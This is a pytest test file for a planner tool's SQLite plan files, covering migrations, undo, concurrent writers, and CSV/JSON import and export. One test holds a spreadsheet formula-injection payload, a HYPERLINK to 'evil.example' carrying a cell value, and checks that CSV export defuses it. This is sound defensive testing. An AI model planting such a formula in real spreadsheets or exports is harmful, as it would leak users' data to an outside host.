import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from planner.store import commands as c
from planner.store import schema
from planner.store.exchange import ImportError_, import_rows, read_rows, write_export
from planner.store.planfile import PlanFile, PlanFileError

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def plan(tmp_path):
    with PlanFile.create(tmp_path / "p.mlplan", name="Test", organisation="Łódź Müller GmbH") as p:
        yield p


def test_round_trip_through_the_file(plan, tmp_path):
    c.SetLevel("Organisation", "ci", 3).apply(plan)
    c.SetConfidence("Organisation", "ci", "high").apply(plan)
    c.AddEvidence("Organisation", "ci", "GitLab CI on every MR", link="https://ci.example").apply(plan)
    c.SetVote("Organisation", "ci", "Anja", 2).apply(plan)
    c.SetTarget("ci", 4).apply(plan)
    c.SetPriority("ci", 5).apply(plan)
    c.SetFrameworkTarget("google", 2).apply(plan)
    before = plan.state
    plan.close()
    with PlanFile.open(tmp_path / "p.mlplan") as again:
        assert again.state == before
        entry = again.state.assessment().entries["ci"]
        assert (entry.level, entry.confidence, entry.evidence[0].link) == (3, "high", "https://ci.example")
        assert again.state.organisation == "Łódź Müller GmbH"


def test_notes_added_in_the_same_second_keep_the_order_they_were_added_in(plan):
    words = ["first", "second", "third", "fourth", "fifth", "sixth"]
    for word in words:  # random ids: ordering by id would shuffle them
        c.AddEvidence("Organisation", "ci", word).apply(plan)
    assert [e.note for e in plan.state.assessment().entries["ci"].evidence] == words


def test_undo_restores_exactly(plan):
    start = plan.state
    command = c.Batch([c.SetLevel("Organisation", "ci", 2), c.SetTarget("cd", 3), c.SetPriority("cd", 4)])
    command.apply(plan)
    assert plan.state != start
    command.undo(plan)
    assert plan.state == start
    command.apply(plan)  # redo
    assert plan.state.targets == {"cd": 3}


def test_a_batch_builds_on_its_own_earlier_commands(plan):
    batch = c.Batch([c.SetLevel("Organisation", "ci", 3), c.SetConfidence("Organisation", "ci", "low"),
                     c.SetNotApplicable("Organisation", "automl", True, "no AutoML use cases")])
    batch.apply(plan)
    entry = plan.state.assessment().entries["ci"]
    assert (entry.level, entry.confidence) == (3, "low")
    batch.undo(plan)
    assert "ci" not in plan.state.assessment().entries


def test_a_batch_snapshot_holds_the_levels_set_before_it_in_the_batch(plan):
    """Later commands see the earlier ones through every read, the plan's state included,
    and the file sees nothing until the batch is written whole."""
    batch = c.Batch([c.SetLevel("Organisation", "ci", 3), c.TakeSnapshot("Organisation", "after")])
    changes = batch.changes(plan)
    assert "ci" not in plan.state.assessment().entries  # worked out, not written
    assert plan.conn.execute("SELECT count(*) FROM snapshots").fetchone()[0] == 0
    batch.apply(plan)
    snapshot = plan.state.assessment().snapshots[0]
    assert snapshot.name == "after" and snapshot.levels["ci"] == 3
    assert len(changes) == 2
    batch.undo(plan)
    assert plan.state.assessment().snapshots == () and "ci" not in plan.state.assessment().entries


def test_commands_refuse_bad_values(plan):
    with pytest.raises(c.CommandError, match="did you mean 'feature_store'"):
        c.SetLevel("Organisation", "feature_stor", 1).apply(plan)
    with pytest.raises(c.CommandError, match="out of range"):
        c.SetLevel("Organisation", "ci", 9).apply(plan)
    with pytest.raises(c.CommandError, match="1 \\(lowest\\) to 5"):
        c.SetPriority("ci", 0).apply(plan)


def test_refuses_a_file_from_a_newer_version(plan, tmp_path):
    plan.conn.execute(f"PRAGMA user_version = {schema.SCHEMA_VERSION + 1}")
    plan.close()
    with pytest.raises(PlanFileError, match="newer version"):
        PlanFile.open(tmp_path / "p.mlplan")


def test_refuses_files_that_are_not_plans(tmp_path):
    text = tmp_path / "notes.mlplan"
    text.write_text("hello")
    with pytest.raises(PlanFileError, match="not a plan file"):
        PlanFile.open(text)
    other = tmp_path / "other.mlplan"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    with pytest.raises(PlanFileError, match="another application"):
        PlanFile.open(other)


def test_migrates_a_version_1_file(tmp_path):
    path = tmp_path / "old.mlplan"
    with PlanFile.create(path) as plan:
        c.SetLevel("Organisation", "ci", 2).apply(plan)
        plan.conn.executescript("DROP TABLE priorities; DROP TABLE settings; DROP TABLE decisions; DROP TABLE pins;"
                                "DROP TABLE deadlines; DROP TABLE estimate_overrides; DROP TABLE scenarios;"
                                "DROP TABLE progress; DROP TABLE baseline; PRAGMA user_version = 1;")
    with PlanFile.open(path) as plan:
        assert plan.conn.execute("PRAGMA user_version").fetchone()[0] == schema.SCHEMA_VERSION
        assert plan.state.assessment().entries["ci"].level == 2
        c.SetPriority("ci", 3).apply(plan)
        assert plan.state.priorities == {"ci": 3}


def test_a_version_4_file_reads_as_it_is_read_only_and_upgrades_when_written(tmp_path):
    """Format 5 only adds the progress and baseline tables: a plan of format 4 on
    read-only media opens unchanged (no progress, no baseline); opened to write, it is
    upgraded and takes progress."""
    import hashlib

    path = tmp_path / "four.mlplan"
    with PlanFile.create(path) as plan:
        c.SetLevel("Organisation", "ci", 2).apply(plan)
        plan.conn.executescript("DROP TABLE progress; DROP TABLE baseline; PRAGMA user_version = 4;")
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    with PlanFile.open(path, read_only=True) as plan:
        assert plan.state.progress == {} and plan.state.baseline == {} and plan.state.baseline_taken == ""
        assert plan.state.assessment().entries["ci"].level == 2
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    with PlanFile.open(path) as plan:
        assert plan.conn.execute("PRAGMA user_version").fetchone()[0] == schema.SCHEMA_VERSION == 5
        c.SetProgress("ci:2-3", "started", "2027-02-01").apply(plan)
        assert plan.state.progress["ci:2-3"].started_on == "2027-02-01"
    assert not schema.readable_as_is(3) and schema.readable_as_is(4)


def test_second_writer_gets_read_only_with_a_reason(plan, tmp_path):
    script = ("from planner.store.planfile import PlanFile\n"
              f"p = PlanFile.open({str(tmp_path / 'p.mlplan')!r})\n"
              "print(p.read_only); print(p.read_only_reason)\n")
    out = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    read_only, reason = out.stdout.splitlines()
    assert read_only == "True" and "another process" in reason
    plan.close()
    out = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert out.stdout.splitlines()[0] == "False"


def test_a_kill_during_writes_loses_nothing_committed(tmp_path):
    path = tmp_path / "k.mlplan"
    PlanFile.create(path).close()
    script = ("import sys\nfrom planner.store import commands as c\nfrom planner.store.planfile import PlanFile\n"
              f"p = PlanFile.open({str(path)!r})\n"
              "for i in range(100000):\n"
              "    c.SetVote('Organisation', 'ci', f'p{i}', i % 5).apply(p)\n"
              "    print(i, flush=True)\n")
    proc = subprocess.Popen([sys.executable, "-c", script], cwd=ROOT, stdout=subprocess.PIPE, text=True)
    for line in proc.stdout:  # wait on the child's own reports, not on time
        if int(line) >= 40:
            break
    proc.kill()
    proc.wait()
    proc.stdout.close()
    with PlanFile.open(path) as plan:
        votes = plan.state.assessment().votes["ci"]
        assert len(votes) >= 41


def test_import_refuses_the_whole_file_with_one_message_per_bad_row(plan, tmp_path):
    bad = tmp_path / "votes.csv"
    bad.write_text("assessment,capability,participant,level,colour\n"
                   "Organisation,ci,Anja,2,\n"
                   "Organisation,feature_stor,Ben,1,\n"
                   "Organisation,cd,Chen,7,\n")
    before = plan.state
    with pytest.raises(ImportError_) as info:
        import_rows(plan, read_rows(bad), str(bad))
    errors = info.value.errors
    assert "row 2, column 'colour': unknown column" in errors[0]
    assert any("row 3, column 'capability': unknown capability 'feature_stor'; did you mean 'feature_store'?" in e
               for e in errors)
    assert any("row 4, column 'level': 7 is out of range for 'cd' (use 0 to 4)" in e for e in errors)
    assert plan.state == before


def test_export_then_import_elsewhere(plan, tmp_path):
    c.SetLevel("Organisation", "ci", 3).apply(plan)
    c.AddEvidence("Organisation", "ci", "note with, comma and \"quotes\"").apply(plan)
    c.SetVote("Organisation", "cd", "Ben", 2).apply(plan)
    for suffix in (".csv", ".json"):
        out = tmp_path / f"x{suffix}"
        write_export(plan, out)
        with PlanFile.create(tmp_path / f"other{suffix}.mlplan") as other:
            other.write(import_rows(other, read_rows(out), str(out)))
            got = other.state.assessment("Organisation")
            assert got.entries["ci"].level == 3
            assert got.entries["ci"].evidence[0].note == 'note with, comma and "quotes"'
            assert got.votes["cd"][0].level == 2


def test_importing_the_same_file_twice_keeps_one_copy_of_each_note(plan, tmp_path):
    c.SetLevel("Organisation", "ci", 3).apply(plan)
    c.AddEvidence("Organisation", "ci", "GitLab CI on every MR").apply(plan)
    out = tmp_path / "x.csv"
    write_export(plan, out)
    for _ in range(2):
        plan.write(import_rows(plan, read_rows(out), str(out)))
    assert [e.note for e in plan.state.assessment().entries["ci"].evidence] == ["GitLab CI on every MR"]


def test_import_explains_bad_files(plan, tmp_path):
    semi = tmp_path / "semi.csv"
    semi.write_text("assessment;capability;level\nOrganisation;ci;2\n")
    with pytest.raises(PlanFileError, match="seems to use ';'"):
        read_rows(semi)
    latin = tmp_path / "latin.csv"
    latin.write_bytes("assessment,capability,note\nOrganisation,ci,caf\xe9\n".encode("latin-1"))
    with pytest.raises(PlanFileError, match="not UTF-8 text"):
        read_rows(latin)
    notes = tmp_path / "notes.txt"
    notes.write_text("hello\n")
    with pytest.raises(PlanFileError, match="lacks the column"):
        read_rows(notes)


def test_a_json_import_with_nan_names_the_line_and_changes_nothing(plan, tmp_path):
    bad = tmp_path / "nan.json"
    bad.write_text('[\n {"assessment": "Organisation", "capability": "ci",\n  "participant": "Anja", "level": NaN}\n]\n')
    before = plan.state
    with pytest.raises(PlanFileError) as info:
        read_rows(bad)
    assert "line 3" in str(info.value) and "NaN is not a number JSON allows" in str(info.value)
    assert plan.state == before
    named = tmp_path / "named.json"  # "NaN" inside a string on line 2 is not the bad number
    named.write_text('[\n {"participant": "NaN Anja", "capability": "ci",\n  "level": NaN}\n]\n')
    with pytest.raises(PlanFileError) as info:
        read_rows(named)
    assert "line 3" in str(info.value)
    bom = tmp_path / "bom.csv"  # as Excel on Windows saves "CSV UTF-8"
    bom.write_bytes(b"\xef\xbb\xbfassessment,capability,participant,level\r\nOrganisation,ci,Anja,2\r\n")
    changes = import_rows(plan, read_rows(bom), str(bom))
    assert changes


def test_a_version_3_deadline_keeps_its_date(tmp_path):
    """Version 3 counted a deadline as the period by whose start the milestone was due;
    version 4 as the period in which it is due. The same day, one period earlier."""
    path = tmp_path / "v3.mlplan"
    with PlanFile.create(path) as plan:
        c.SetDeadline("google", 1, 6).apply(plan)
        c.SetDeadline("microsoft", 1, 0).apply(plan)
        plan.conn.executescript("DROP TABLE progress; DROP TABLE baseline; PRAGMA user_version = 3;")
    with PlanFile.open(path) as plan:
        assert plan.state.deadlines == {("google", 1): 5, ("microsoft", 1): 0}


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"click")'


def test_no_cell_of_an_exported_csv_runs_as_a_formula_and_the_data_round_trips(plan, tmp_path):
    import csv

    c.SetVote("Organisation", "cd", "+Ben", 2, FORMULA).apply(plan)
    c.AddEvidence("Organisation", "ci", "@SUM(1,2)").apply(plan)
    c.AddEvidence("Organisation", "ci", "-2 for the budget").apply(plan)
    out = tmp_path / "x.csv"
    write_export(plan, out)
    with out.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert FORMULA not in cells and "'" + FORMULA in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    with PlanFile.create(tmp_path / "other.mlplan") as other:  # the app's own import reads them back exactly
        other.write(import_rows(other, read_rows(out), str(out)))
        got = other.state.assessment("Organisation")
        assert got.votes["cd"][0].participant == "+Ben" and got.votes["cd"][0].note == FORMULA
        assert {e.note for e in got.entries["ci"].evidence} == {"@SUM(1,2)", "-2 for the budget"}
    exact = tmp_path / "x.json"  # JSON stays exact
    write_export(plan, exact)
    assert FORMULA in exact.read_text(encoding="utf-8").replace('\\"', '"')


def test_a_json_import_nested_100000_deep_is_refused_in_words(plan, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(PlanFileError) as info:
        read_rows(deep)
    assert "nested too deeply" in str(info.value) and str(deep) in str(info.value)


def test_held_writes_wait_in_memory_and_flush_in_order(plan):
    """With hold_writes (the app), a file that refuses writes keeps the changes in memory,
    readable at once; flush saves them in order when the file takes writes again. Without
    it (the CLI), the refusal is an error and nothing is kept."""
    c.SetLevel("Organisation", "ci", 1).apply(plan)
    plan.conn.execute("PRAGMA query_only = 1")
    with pytest.raises(PlanFileError):
        c.SetLevel("Organisation", "ci", 2).apply(plan)  # hold_writes is off
    assert plan.held == 0
    plan.hold_writes = True
    c.SetLevel("Organisation", "ci", 2).apply(plan)
    c.SetLevel("Organisation", "ci", 3).apply(plan)
    c.SetVote("Organisation", "ci", "Anja", 2).apply(plan)
    assert plan.held == 3 and "cannot be written" in plan.held_reason
    assert plan.state.assessment().entries["ci"].level == 3
    with PlanFile.open(plan.path, read_only=True) as other:
        assert other.state.assessment().entries["ci"].level == 1  # the file as last saved
    assert not plan.flush()  # still refused: nothing lost
    plan._disk.execute("PRAGMA query_only = 0")
    assert plan.flush() and plan.held == 0 and plan.held_reason == ""
    with PlanFile.open(plan.path, read_only=True) as other:
        assert other.state == plan.state and other.state.assessment().entries["ci"].level == 3
